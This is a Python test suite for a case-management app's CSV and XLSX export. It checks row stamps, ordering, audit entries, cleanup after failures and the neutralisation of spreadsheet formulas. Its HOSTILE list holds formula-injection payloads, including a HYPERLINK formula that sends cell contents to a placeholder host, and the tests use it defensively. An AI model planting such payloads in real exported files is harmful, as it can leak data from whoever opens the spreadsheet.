"""Lists taken out of the house, read back: complete, stamped, and free of formulas."""

import csv
import re
import unicodedata
from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from desk_app.audit.model import AuditEntry
from desk_app.cases.rules import CaseState
from desk_app.cases.types.catalogue import defaults
from desk_app.errors import Fault, Refused
from desk_app.people.access import Role
from desk_app.purposes.rules import Purpose
from desk_app.reports import case_lists
from desk_app.reports.case_lists import CaseList, write_csv, write_xlsx
from desk_app.reports.cells import LONGEST, cell
from desk_app.reports.service import open_case_list
from desk_app.search.pages import CaseListRow, Query, Sort
from desk_app.search.views import rows
from desk_app.words import Words
from tests.day import OfficeDay
from tests.reports.sample import STAMP
from tests.surroundings import no_room_beyond

JA = Words("ja")
ROW = CaseListRow(
    id=1,
    number="2026-000123",
    state=CaseState.WAITING,
    case_type="complaint",
    type_name=defaults()["complaint"].name,
    subject="刃が欠けた",
    customer="髙﨑 美咲",
    assignee=None,
    opened_at=datetime(2026, 6, 10, 1, 30, tzinfo=UTC),
    due_at=None,
    callback_due_at=datetime(2026, 6, 11, 16, 0, tzinfo=UTC),
)
HOSTILE = [
    '=HYPERLINK("http://x.example?"&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝１＋１",
    "＋1",
    "－1",
    "＠x",
    "  =1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "<r><t>x</t></r>",
    "<r></is></c></r>",
]
Write = Callable[[CaseList, Path, Words, Callable[[Sequence[int]], Sequence[CaseListRow]]], None]


def listed(rows: Sequence[CaseListRow]) -> tuple[CaseList, Callable[..., list[CaseListRow]]]:
    return CaseList(STAMP, range(len(rows))), lambda ids: [rows[i] for i in ids]


def csv_rows(path: Path) -> list[list[str]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as source:
        return list(csv.reader(source))


def test_csv_holds_the_rows_and_who_made_it(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    write_csv(*_with(path, [ROW]))
    stamp, headings, row = csv_rows(path)
    assert stamp == [STAMP.say(JA)]
    assert headings[:4] == ["案件番号", "対応状況", "お申し出区分", "件名"]
    assert row == [
        "2026-000123",
        JA("cases.state.waiting"),
        "苦情",
        "刃が欠けた",
        "髙﨑 美咲",
        "",
        "2026-06-10 10:30",
        "",
        "2026-06-12 01:00",
    ]


def _with(
    path: Path, rows: Sequence[CaseListRow]
) -> tuple[CaseList, Path, Words, Callable[..., list[CaseListRow]]]:
    wanted, fetch = listed(rows)
    return wanted, path, JA, fetch


def test_xlsx_holds_the_rows_and_who_made_it(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    write_xlsx(*_with(path, [ROW, replace(ROW, number=None)]))
    book = load_workbook(path)
    sheet = book.worksheets[0]
    assert sheet["A1"].value == STAMP.say(JA)
    assert [c.value for c in sheet[3]][3] == "件名"
    assert [c.value for c in sheet[4]] == [
        "2026-000123",
        JA("cases.state.waiting"),
        "苦情",
        "刃が欠けた",
        "髙﨑 美咲",
        None,
        datetime(2026, 6, 10, 10, 30),  # noqa: DTZ001 -- a sheet's times have no zone
        None,
        datetime(2026, 6, 12, 1, 0),  # noqa: DTZ001 -- as above
    ]
    assert sheet.max_row == 5
    assert book.properties.creator == STAMP.made_by
    assert book.properties.description == STAMP.say(JA)
    book.close()


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_a_list_of_many_batches_is_complete_and_in_order(tmp_path: Path, write: Write) -> None:
    cases = [replace(ROW, number=f"2026-{n:06}") for n in range(1234)]
    path = tmp_path / "list"
    write(*_with(path, cases))
    if write is write_csv:
        numbers = [row[0] for row in csv_rows(path)[2:]]
    else:
        with path.open("rb") as source:
            book = load_workbook(source, read_only=True)
            numbers = [str(row[0].value) for row in list(book.worksheets[0].rows)[3:]]
            book.close()
    assert numbers == [row.number for row in cases]
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_strangers_formula_is_text(tmp_path: Path, text: str) -> None:
    hostile = replace(ROW, subject=text, customer=text, assignee=text)
    write_csv(*_with(tmp_path / "list.csv", [hostile]))
    write_xlsx(*_with(tmp_path / "list.xlsx", [hostile]))
    in_csv = csv_rows(tmp_path / "list.csv")[2]
    book = load_workbook(tmp_path / "list.xlsx")
    in_xlsx = list(book.worksheets[0][4])
    for column in (3, 4, 5):
        assert in_csv[column].startswith("'")
        assert in_xlsx[column].data_type == "s"
        assert str(in_xlsx[column].value).startswith("'")
    book.close()


@given(text=st.text(max_size=40) | st.sampled_from(HOSTILE))
@example(text="x" * (LONGEST + 5))
@example(text="'=1")
@example(text="_x0041_")
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
def test_any_text_comes_back_as_its_cell(tmp_path: Path, text: str) -> None:
    row = replace(ROW, subject=text)
    write_csv(*_with(tmp_path / "list.csv", [row]))
    write_xlsx(*_with(tmp_path / "list.xlsx", [row]))
    assert csv_rows(tmp_path / "list.csv")[2][3] == cell(text)
    book = load_workbook(tmp_path / "list.xlsx")
    assert unescape(book.worksheets[0]["D4"].value or "") == cell(text)
    assert book.worksheets[0]["D4"].data_type != "f"
    book.close()


@given(text=st.text())
def test_a_cell_is_one_line_that_is_no_formula(text: str) -> None:
    shown = cell(text)
    assert not any(unicodedata.category(c) in {"Cc", "Cs"} for c in shown)
    assert not re.match(r"\s*[=+\-@]", unicodedata.normalize("NFKC", shown))
    assert len(shown) <= LONGEST


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_a_full_disk_leaves_nothing(tmp_path: Path, write: Write) -> None:
    cases = [ROW] * 2000
    with pytest.raises(Fault, match=r"files\.disk_full"), no_room_beyond(4096):
        write(*_with(tmp_path / "list", cases))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_a_reader_that_fails_leaves_nothing(tmp_path: Path, write: Write) -> None:
    def fetch(ids: Sequence[int]) -> list[CaseListRow]:
        raise Fault("storage.server_lost")

    with pytest.raises(Fault, match=r"storage\.server_lost"):
        write(CaseList(STAMP, range(3)), tmp_path / "list", JA, fetch)
    assert list(tmp_path.iterdir()) == []


def test_a_missing_folder_is_said(tmp_path: Path) -> None:
    for write in (write_csv, write_xlsx):
        with pytest.raises(Fault, match=r"files\.no_folder"):
            write(*_with(tmp_path / "gone" / "list", [ROW]))


def test_more_rows_than_a_sheet_holds_are_refused(tmp_path: Path) -> None:
    too_many = CaseList(STAMP, range(case_lists.MOST_ROWS + 1))
    with pytest.raises(Refused, match=r"reports\.too_many_rows"):
        write_xlsx(too_many, tmp_path / "list.xlsx", JA, lambda ids: [])
    assert list(tmp_path.iterdir()) == []


def test_a_list_is_audited_before_there_is_a_file(day: OfficeDay, tmp_path: Path) -> None:
    numbers = [day.page(day.new_case()).number for _ in range(3)]
    supervisor = day.person(Role.SUPERVISOR)
    query = Query(text="刃が欠け", sort=Sort.NUMBER, descending=False)
    order = day.perform(supervisor, open_case_list, query, purpose=Purpose.IMPROVEMENT)
    with day.work(reading=True) as w:
        entry = w.session.query(AuditEntry).filter_by(action="case.list_exported").one()
        assert (entry.user_id, entry.purpose) == (supervisor.user_id, "E")
        assert entry.particulars == {"count": 3, "left_out": 0, "cases": [[1, 3]]}
    path = tmp_path / "list.csv"
    write_csv(order, path, JA, lambda ids: day.read(supervisor, rows, ids))
    stamp, _, *written = csv_rows(path)
    assert [row[0] for row in written] == numbers
    assert JA("purposes.purpose.E") in stamp[0]
